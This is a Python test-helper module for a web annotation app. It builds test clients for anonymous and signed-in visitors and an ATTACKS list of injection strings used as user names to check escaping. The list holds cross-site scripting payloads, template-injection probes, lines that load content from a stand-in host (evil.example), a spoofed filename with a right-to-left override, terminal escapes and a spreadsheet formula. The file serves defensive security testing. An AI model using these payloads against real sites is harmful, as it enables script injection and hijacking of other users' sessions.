"""A served campaign and its visitors, for tests of security."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from typing import Any

from litestar import Litestar
from litestar.testing import TestClient

from anaphor.annotate.campaign.people import add_link, find_person, find_session, open_session
from anaphor.annotate.judging.assignments import list_assignments
from anaphor.annotate.store.database import Store

#: Ways out of text, attributes, elements and templates. `evil` marks what comes from outside.
ATTACKS = (
    "<script>evil()</script>",
    "</script><script>evil()</script>",
    "<img src=x onerror=evil()>",
    "<svg/onload=evil()>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '" onmouseover="evil()" x="',
    "' onfocus='evil()' autofocus='",
    "` onclick=`evil()",
    '"><iframe srcdoc="&lt;script&gt;evil()&lt;/script&gt;">',
    "</textarea><script>evil()</script>",
    "</title><script>evil()</script>",
    "</option></select><img src=x onerror=evil()>",
    "--><script>evil()</script><!--",
    "]]><script>evil()</script>",
    "<![CDATA[<script>evil()</script>]]>",
    "javascript:evil()",
    "<a href=javascript:evil()>evil</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<form action=//evil.example><button>evil</button></form>",
    "<math><mtext></p><img src=x onerror=evil()>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
    "&lt;script&gt;evil()&lt;/script&gt;",
    "&#60;script&#62;evil()",
    "{{evil.__class__.__mro__}}",
    "{%for+evil+in+().__class__.__base__.__subclasses__()%}{%endfor%}",
    "${evil}#{evil}<%=evil%>",
    "%3Cscript%3Eevil()%3C/script%3E",
    "\uff1cscript\uff1eevil()\uff1c/script\uff1e",
    "evil\u202egnp.exe",
    "evil\x1b[2J\x07",
    "=HYPERLINK('//evil.example')",
)

#: A name stands on one line and is printable.
NAMES = tuple(one for one in ATTACKS if one.isprintable() and len(one) <= 80)


@dataclass(frozen=True, slots=True)
class Visitor:
    """Somebody with a browser of their own; `token` is what their forms bring along."""

    client: TestClient[Litestar]
    token: str = ""

    def get(self, path: str, **options: Any) -> Any:
        return self.client.get(path, follow_redirects=False, **options)

    def enter(self, token: str) -> Any:
        """Open a personal link and press the button of its page."""
        page = self.get(f"/enter/{token}")
        hidden = dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', page.text))
        return self.client.post("/enter", data=hidden, follow_redirects=False)

    def post(self, path: str, form: dict[str, Any] | None = None, **options: Any) -> Any:
        content = {"csrf": self.token, **(form or {})}
        return self.client.post(path, data=content, follow_redirects=False, **options)

    def send(self, path: str, content: object) -> Any:
        headers = {"X-CSRF-Token": self.token, "Content-Type": "application/json"}
        return self.client.post(path, content=json.dumps(content), headers=headers)


@dataclass(frozen=True, slots=True)
class Site:
    """A campaign that is served in memory."""

    store: Store
    app: Litestar

    def stranger(self) -> Visitor:
        visitor = Visitor(TestClient(self.app, base_url="http://127.0.0.1", raise_server_exceptions=False))
        found = re.search(r'name="csrf" value="([^"]+)"', visitor.get("/").text)
        assert found is not None
        return Visitor(visitor.client, found[1])

    def visitor(self, name: str) -> Visitor:
        """Somebody who is signed in."""
        token = open_session(self.store, find_person(self.store, name).id)
        session = find_session(self.store, token)
        assert session is not None
        cookies = {self.app.state["app_state"].cookie: token}
        client = TestClient(
            self.app, base_url="http://127.0.0.1", cookies=cookies, raise_server_exceptions=False
        )
        return Visitor(client, session.csrf)

    def annotator(self, number: int = 0) -> Visitor:
        return self.visitor(NAMES[5 + number])

    def lead(self) -> Visitor:
        return self.visitor("Lea")

    def link(self, number: int = 0, *, days: float = 1) -> str:
        return add_link(self.store, NAMES[5 + number], days=days, by="test")

    def items(self, number: int = 0) -> list[str]:
        return items_of(self.store, number)


def items_of(store: Store, number: int) -> list[str]:
    """The ids of somebody's assignments."""
    person = find_person(store, NAMES[5 + number]).id
    return [row.id for row in list_assignments(store, person)]


@dataclass(frozen=True, slots=True)
class Running:
    """A server, and its campaign as seen from outside of it."""

    site: Site
    port: int
